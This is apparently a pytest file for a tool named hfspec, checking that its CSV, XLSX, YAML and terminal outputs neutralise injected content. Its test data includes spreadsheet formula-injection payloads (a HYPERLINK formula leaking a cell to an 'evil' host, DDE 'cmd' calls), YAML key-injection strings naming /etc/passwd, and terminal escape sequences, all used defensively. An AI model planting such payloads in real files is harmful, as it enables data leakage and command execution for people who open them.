"""What hfspec writes for people to open is safe to open (issue 20): no cell of a CSV or XLSX file
runs as a formula, whatever the data or the titles hold; a municipality named like math text is
just text in the report's charts; generated YAML cannot be turned into other YAML by a value."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path
from textwrap import dedent

import openpyxl
import pytest

from hfspec.render.spreadsheet import csv_cell, runs_as_formula

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "examples" / "demo" / "data"

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
#: Municipality names in the data (ingestion trims a cell, so a leading tab or CR never gets through).
NAMES = HOSTILE[:4]
#: Key-figure titles (kept as written).
TITLES = ['=HYPERLINK("http://evil/","x")', "\t=1+1"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """Demo data whose municipalities are formulas, and a catalogue whose titles are formulas."""
    work = tmp_path_factory.mktemp("hostile")
    data = work / "data"
    shutil.copytree(DEMO, data)
    rows = list(csv.reader((data / "borgere.csv").open(encoding="utf-8", newline="")))
    names = {}
    for row in rows[1:]:  # every municipality gets one of the formulas as its name
        names.setdefault(row[1], NAMES[len(names) % len(NAMES)])
        row[1] = names[row[1]]
    with (data / "borgere.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    catalogue = work / "catalogue.yaml"
    catalogue.write_text(dedent("""\
        kind: Catalogue
        id: k
        title: "=1+1"
        extends: national
        select: [HF-P-01, HF-O-09]
        override:
          HF-P-01: {title: {da: "=HYPERLINK(\\"http://evil/\\",\\"x\\")", en: "@evil"}}
          HF-O-09: {title: {da: "\\t=1+1", en: "\\t=1+1"}}
        """), encoding="utf-8")
    return catalogue, data


def _no_formulas(path: Path) -> list[str]:
    """Every cell text of a workbook, after checking that no sheet holds a formula and that every
    text a spreadsheet would run carries the quote prefix."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    texts = []
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    if runs_as_formula(cell.value):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    return texts


def test_the_rule():
    for text in HOSTILE:
        assert runs_as_formula(text) and csv_cell(text) == "'" + text
    for text in ("-3", "-12.5", "+4", "12,5", "Køge", "'quoted", " =1", "", "2021-Q3", ">= 80%"):
        assert csv_cell(text) == text


def test_eval_csv_neutralises_data_cells_and_titles(hostile, run_cli, tmp_path):
    catalogue, data = hostile
    code, _ = run_cli(["eval", catalogue, data, "--format", "csv", "--suppress-below", "0", "--not-for-publication", "--out", tmp_path / "r.csv"])
    assert code == 0
    cells = [c for row in csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig", newline="")) for c in row]
    assert not [c for c in cells if runs_as_formula(c)]
    for text in NAMES + TITLES:  # every name and title is still there, readable, after a quote
        assert "'" + text in cells


def test_eval_xlsx_has_no_formula(hostile, run_cli, tmp_path):
    catalogue, data = hostile
    code, _ = run_cli(["eval", catalogue, data, "--format", "xlsx", "--suppress-below", "0", "--not-for-publication", "--out", tmp_path / "r.xlsx"])
    assert code == 0
    texts = _no_formulas(tmp_path / "r.xlsx")
    assert set(NAMES + TITLES) <= set(texts)  # shown exactly as they are (the quote prefix is a style, not text)


def test_report_xlsx_has_no_formula(hostile, run_cli, tmp_path):
    catalogue, data = hostile
    code, output = run_cli(["report", catalogue, data, "--suppress-below", "0", "--not-for-publication", "--out", tmp_path / "r.xlsx"])
    assert code == 0, output
    texts = _no_formulas(tmp_path / "r.xlsx")
    assert "=HYPERLINK(\"http://evil/\",\"x\")" in texts


def test_cream_outputs_have_no_formula(hostile, run_cli, tmp_path):
    catalogue, _ = hostile
    assert run_cli(["cream", catalogue, "--format", "xlsx", "--out", tmp_path / "w.xlsx"])[0] == 0
    assert "=HYPERLINK(\"http://evil/\",\"x\")" in _no_formulas(tmp_path / "w.xlsx")
    assert run_cli(["cream", catalogue, "--format", "csv", "--out", tmp_path / "w.csv"])[0] == 0
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "w.csv").read_text(encoding="utf-8"))) for c in row]
    assert "'=HYPERLINK(\"http://evil/\",\"x\")" in cells and not [c for c in cells if runs_as_formula(c)]


def test_control_characters_in_data_do_not_break_the_workbook(tmp_path, run_cli):
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    text = (data / "borgere.csv").read_text(encoding="utf-8")
    (data / "borgere.csv").write_text(text.replace("Vejle", "Vej\x01le"), encoding="utf-8")
    code, output = run_cli(["eval", ROOT / "catalog", data, "--format", "xlsx", "-i", "HF-P-01", "--suppress-below", "0", "--not-for-publication", "--out", tmp_path / "r.xlsx"])
    assert code == 0, output
    assert "Vej\ufffdle" in _no_formulas(tmp_path / "r.xlsx")


def test_a_math_text_municipality_is_plain_text_in_the_report(tmp_path, run_cli):
    """`$\\frac{1}{$` crashed matplotlib's math-text parser; charts are SVG text now."""
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    text = (data / "borgere.csv").read_text(encoding="utf-8")
    (data / "borgere.csv").write_text(text.replace("Vejle", "$\\frac{1}{$"), encoding="utf-8")
    code, output = run_cli(["report", ROOT / "catalog", data, "--suppress-below", "0", "--not-for-publication", "--out", tmp_path / "r.html"])
    assert code == 0, output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "$\\frac{1}{$" in page and "<svg" in page


# -- files that cannot be written -----------------------------------------------------------------

def unwritable_folder(tmp_path: Path) -> Path:
    """A folder in which no file can be created: a read-only folder, or (as root, whom file modes
    do not stop) /sys, which the kernel keeps read-only."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    for candidate in (folder, Path("/sys")):
        try:
            (candidate / "probe").touch()
        except OSError:
            return candidate
        (candidate / "probe").unlink()
    pytest.skip("no folder here refuses new files")


OUT = {
    "eval text": ["eval", "-i", "HF-P-01"],
    "eval csv": ["eval", "-i", "HF-P-01", "--format", "csv"],
    "eval json": ["eval", "-i", "HF-P-01", "--format", "json"],
    "eval xlsx": ["eval", "-i", "HF-P-01", "--format", "xlsx"],
    "report html": ["report"],
    "report xlsx": ["report", "--format", "xlsx"],
    "check": ["check"],
    "cream text": ["cream"],
    "cream xlsx": ["cream", "--format", "xlsx"],
    "render": ["render"],
    "som": ["som", "vejle"],
    "dbl": ["dbl"],
}


WHERE = ["read-only folder", "onto a folder", "missing folder"]
#: Every command once, and every way a file cannot be written with the quick commands.
CASES = [pytest.param(args, where, id=f"{name}-{where}") for name, args in OUT.items()
         for where in (WHERE if name.startswith(("eval", "cream")) else WHERE[:1])]


@pytest.mark.parametrize("args, where", CASES)
def test_an_out_file_that_cannot_be_written_is_hf803(tmp_path, run_cli, args, where):
    target = {"read-only folder": lambda: unwritable_folder(tmp_path) / "out.file",
              "onto a folder": lambda: tmp_path,
              "missing folder": lambda: tmp_path / "no" / "such" / "out.file"}[where]()
    code, output = run_cli([*args, "--out", target])
    assert code == 1 and "HF803" in output and "Traceback" not in output, output


def test_cream_shortlist_and_init_that_cannot_be_written_are_hf803(tmp_path, run_cli):
    folder = unwritable_folder(tmp_path)
    code, output = run_cli(["cream", "--write-shortlist", folder / "kort.yaml"])
    assert code == 1 and "HF803" in output and "Traceback" not in output, output
    code, output = run_cli(["init", folder / "kommune"])
    assert code == 1 and "HF803" in output and "Traceback" not in output, output


# -- YAML hfspec writes ---------------------------------------------------------------------------

def test_a_rater_name_cannot_inject_keys_into_the_short_list(tmp_path, run_cli):
    """A rater's name with line breaks went into a comment of the short-list catalogue and
    started `extends:` and `include:` lines of its own."""
    sheet = tmp_path / "ratings.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["bedømmer", "nøgletal", "kriterium", "score", "begrundelse"])
    evil = "Ann\nextends: /etc/passwd\ninclude: [\"/etc/*.yaml\"]\r\u2028drop: [HF-P-01]"
    for criterion in ("nøjagtighed", "relevans", "omkostningseffektivitet", "tilstrækkelighed", "objektivitet"):
        book.active.append([evil, "HF-P-01", criterion, 4, "ok"])
    book.save(sheet)
    out = tmp_path / "kort.yaml"
    code, output = run_cli(["cream", "--ratings", sheet, "--top", "3", "--write-shortlist", out])
    assert code == 0, output
    text = out.read_text(encoding="utf-8")
    keys = [line.split(":")[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert keys == ["kind", "id", "title", "extends", "weights", "cream_pass", "select"]
    assert run_cli(["validate", out])[0] == 0


def test_init_name_with_a_line_break_stays_a_title(tmp_path, run_cli):
    """Any name is a municipality's name (the id is its slug); a line break in it cannot add keys."""
    code, output = run_cli(["init", tmp_path / "k", "--name", "x\nextends: /etc/passwd"])
    assert code == 0, output
    text = (tmp_path / "k" / "catalogue.yaml").read_text(encoding="utf-8")
    keys = [line.split(":")[0] for line in text.splitlines() if line and not line.startswith((" ", "#", "-"))]
    assert keys == ["kind", "id", "title", "extends", "select", "params"]
    assert "\nextends: /etc/passwd" not in text.replace("\\n", "")
    assert run_cli(["validate", tmp_path / "k" / "catalogue.yaml"])[0] == 0


# -- the terminal ---------------------------------------------------------------------------------

def test_check_says_it_is_citizen_level(run_cli):
    """`hfspec check` lists citizen ids and data rows; like `hfspec dbl` it says so."""
    import json

    from hfspec.words import CHECK

    code, output = run_cli(["check", "--lang", "en"])
    assert CHECK["en"]["confidential"] in output.splitlines()[1]
    code, output = run_cli(["check", "--format", "json"])
    assert json.loads(output)["citizen_level"] is True


def test_escape_sequences_from_data_do_not_reach_the_terminal(tmp_path, run_cli):
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    text = (data / "borgere.csv").read_text(encoding="utf-8").replace(",Vejle,", ",\x1b[2J\x1b]0;owned\x07Vejle,")
    first, rest = text.split("\n", 1)
    (data / "borgere.csv").write_text(first + ",\x1b[31mnote\n" + rest.replace("\n", ",x\n"), encoding="utf-8")
    code, output = run_cli(["eval", ROOT / "catalog", data, "-i", "HF-P-01", "--suppress-below", "0", "--not-for-publication"])
    assert code == 0 and "HF502" in output, output
    assert "\x1b" not in output and "\x07" not in output
    assert "␛[31mnote" in output and "␛[2J␛]0;owned␇Vejle" in output
